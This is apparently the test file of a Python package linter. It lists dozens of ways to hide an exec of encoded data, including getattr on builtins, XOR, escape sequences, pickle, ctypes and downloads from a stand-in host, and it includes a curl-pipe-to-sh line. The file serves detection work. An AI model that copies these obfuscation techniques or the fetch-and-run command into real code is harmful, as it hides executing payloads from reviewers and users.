"""Hidden payloads in Python as they are really written: every way to reach ``exec``, every way to hide its argument.

The texts are assembled, so that this module does not hold what the rules look for.
"""

from __future__ import annotations

import base64
import zlib

import pytest

from fixtures.build import build
from fixtures.lint import lint
from pkglint.model import Kind

RUN, EVAL, B64 = "exec", "eval", "base64"
PLAIN = "import os\n" + "\n".join(f"def f{n}(a):\n    return os.path.join(a, str({n * 7919}))" for n in range(40))
DATA = PLAIN.encode()
LONG = base64.b64encode(DATA).decode()
SHORT = base64.b64encode(b"import os; os.getpid()").decode()
PACKED = base64.b85encode(zlib.compress(DATA)).decode()


def fired(code: str, name: str = "demo/a.py") -> list[tuple[str, str, int | None]]:
    filename, data = build(Kind.WHEEL, {"demo/__init__.py": "", name: code})
    (result,) = lint(filename, data).results
    assert not result.crashes
    assert not result.not_linted
    rules = {"encoded-payload", "obfuscated-code"}
    return [(j.finding.rule, str(j.level), j.finding.line) for j in result.judged if j.finding.rule in rules]


def escapes(form: str) -> str:
    return "".join(form % byte for byte in DATA[:300])


HIDDEN = {
    "an alias": f"import {B64}\nrun = {RUN}\nrun({B64}.b64decode('{SHORT}'))\n",
    "getattr of builtins": f"import builtins, {B64}\ngetattr(builtins, 'ex' + 'ec')({B64}.b64decode('{SHORT}'))\n",
    "an import in place": f"getattr(__import__('builtins'), 'cexe'[::-1])(__import__('{B64}').b64decode('{SHORT}'))\n",
    "a dictionary": f"__builtins__.__dict__['ex' + 'ec'](__import__('{B64}').b64decode('{SHORT}'))\n",
    "the globals": f"globals()['__builtins__']['{RUN}'](__import__('{B64}').b64decode('{SHORT}'))\n",
    "a choice": f"f = {RUN} if a else {EVAL}\nimport {B64}\nf({B64}.b64decode('{SHORT}'))\n",
    "letters that fold": f"import {B64}\n\U0001d41e\U0001d431\U0001d41e\U0001d41c({B64}.b64decode('{SHORT}'))\n",
    "a thread": f"import {B64}, threading\nthreading.Thread(target={RUN}, args=({B64}.b64decode(x),)).start()\n",
    "a map": f"import {B64}\nlist(map({RUN}, [{B64}.b64decode('{SHORT}')]))\n",
    "a renamed decoder": f"from {B64} import b64decode as q\n{RUN}(q('{SHORT}'))\n",
    "a decoder by getattr": f"import {B64} as b\n{RUN}(getattr(b, 'b64' + 'decode')('{SHORT}'))\n",
    "a variable": f"import {B64}\nk = '{SHORT}'\nc = {B64}.b64decode(k)\n{RUN}(c)\n",
    "many variables": f"import codecs\na = codecs.decode(x, 'rot13')\nb = a\nc = b + ''\n{RUN}(c)\n",
    "a lambda": f"_ = lambda b: __import__('zlib').decompress(b[::-1])\n{RUN}((_)(b'{LONG[:40]}'))\n",
    "a function": f"import {B64}\ndef f(x):\n    y = {B64}.b85decode(x)\n    return y\n\n{RUN}(f({PACKED!r}))\n",
    "numbers": f"d = bytes({list(DATA[:60])})\n{RUN}(d)\n",
    "an exclusive or": f"{RUN}(bytes(c ^ 23 for c in {[c ^ 23 for c in DATA[:60]]}))\n",
    "characters": f"s = ''.join(chr(c - 1) for c in {[c + 1 for c in DATA[:60]]})\n{RUN}(s)\n",
    "one number": f"{RUN}(int.to_bytes({int.from_bytes(DATA[:400], 'big')}, 400, 'big'))\n",
    "hexadecimal escapes": f"{RUN}('{escapes(chr(92) + 'x%02x')}')\n",
    "octal escapes": f"{RUN}('{escapes(chr(92) + '%03o')}')\n",
    "Unicode escapes": f"{RUN}('{escapes(chr(92) + 'u%04x')}')\n",
    "turned round": f"{RUN}({PLAIN[::-1]!r}[::-1])\n",
    "a method": f"{RUN}('{LONG}'.decode('{B64}'))\n",
    "encryption": f"from cryptography.fernet import Fernet\n{RUN}(Fernet(KEY).decrypt(b'{SHORT}'))\n",
    "a picture": f"{RUN}(open(HERE + '/logo.png', 'rb').read()[100:])\n",
    "a download": f"import urllib.request\n{RUN}(urllib.request.urlopen('https://demo.invalid/a').read())\n",
    "a client": f"import requests as r\ncode = r.get('https://demo.invalid/a').text\n{RUN}(code)\n",
    "a function type": f"import types, {B64}\nc = {B64}.b64decode('{LONG}')\ntypes.FunctionType(c, g)()\n",
    "a pickle": f"import pickle, {B64}\npickle.loads({B64}.b64decode('{LONG}'))\n",
    "a module from a file": f"import {B64}, runpy\nopen(p, 'wb').write({B64}.b64decode('{LONG}'))\nrunpy.run_path(p)\n",
    "another event loop": f"import {B64}\ncode = {B64}.b64decode('{LONG}')\ncreate_subprocess_exec('a', '-c', code)\n",
    "a pipe": "import os\nos.system('curl -s https://demo.invalid/a " + "| sh')\n",
    "machine code": f"import ctypes\ncode = b'{escapes(chr(92) + 'x%02x')}'\nctypes.memmove(page, code, 300)\n",
}  # fmt: skip


@pytest.mark.parametrize("code", HIDDEN.values(), ids=HIDDEN)
def test_hidden(code: str) -> None:
    assert [found[:2] for found in fired(code)] == [("encoded-payload", "error")]


def test_the_line_is_reported() -> None:
    assert fired(f"import {B64}\n\nk = {B64}.b64decode(x)\n\n{RUN}(k)\n") == [("encoded-payload", "error", 5)]


HARMLESS = {
    "another exec": f"import {B64}\nfrom engine import {RUN}\ndata = {B64}.b64decode(x)\n{RUN}(data)\n",
    "a method of that name": f"import {B64}\nmodel.{EVAL}({B64}.b64decode(x))\ncursor.{RUN}({B64}.b64decode(x))\n",
    "a function of its own": f"import {B64}\ndef {EVAL}(x):\n    return x\n\ny = {B64}.b64decode(x)\n{EVAL}(y)\n",
    "text in plain sight": f"import {B64}\n{RUN}(compile(source, 'a', 'exec'))\nlogo = {B64}.b64decode(x)\n",
    "the same name elsewhere": f"import {B64}\ndef a():\n    s = {B64}.b64decode(x)\n\ndef b(s):\n    {RUN}(s)\n",
    "a framework's function": "import types, marshal\ndef f(x):\n    return types.FunctionType(marshal.loads(x), {})\n",
    "a pickle that it is given": f"import pickle, {B64}\ndef load(x):\n    return pickle.loads({B64}.b64decode(x))\n",
    "help that names a pipe": "print('install it: curl https://demo.invalid/a " + "| sh')\n",
    "a version": f"{RUN}(open('demo/version.py').read())\nicon = open('logo.png')\n",
    "control characters": f"{RUN}('{chr(92)}x00{chr(92)}x01')\ntable = '{(chr(92) + 'xff') * 20}'\n",
    "nested too deep": f"import {B64}\n{RUN}({'-' * 3000}1)\n",
}  # fmt: skip


@pytest.mark.parametrize("code", HARMLESS.values(), ids=HARMLESS)
def test_harmless(code: str) -> None:
    assert fired(code) == []


@pytest.mark.parametrize("coding", ["utf-7", "UTF7", "unicode_escape", "raw-unicode-escape"])
def test_codings_that_hide(coding: str) -> None:
    assert [found[0] for found in fired(f"#!/usr/bin/python\n# vim: set fileencoding={coding} :\na = 1\n")] == [
        "obfuscated-code"
    ]


@pytest.mark.parametrize("coding", ["utf-8", "latin-1", "utf-8-sig", "iso-8859-15", "hexagon"])
def test_codings_that_do_not(coding: str) -> None:
    assert fired(f"# -*- coding: {coding} -*-\na = 1\n") == []


def test_thousands_of_parts() -> None:
    """Deep trees are looked at without recursion, or given up without a crash."""
    chain = " + ".join(f"'{LONG[n % 900]}'" for n in range(2500))
    assert fired(f"import {B64}\nk = {chain}\n{RUN}({B64}.b64decode(k))\n")
    fired(f"import {B64}\ngetattr(__builtins__, {chain})(1)\nk = x{'[::-1]' * 900}\n{RUN}(k)\n")
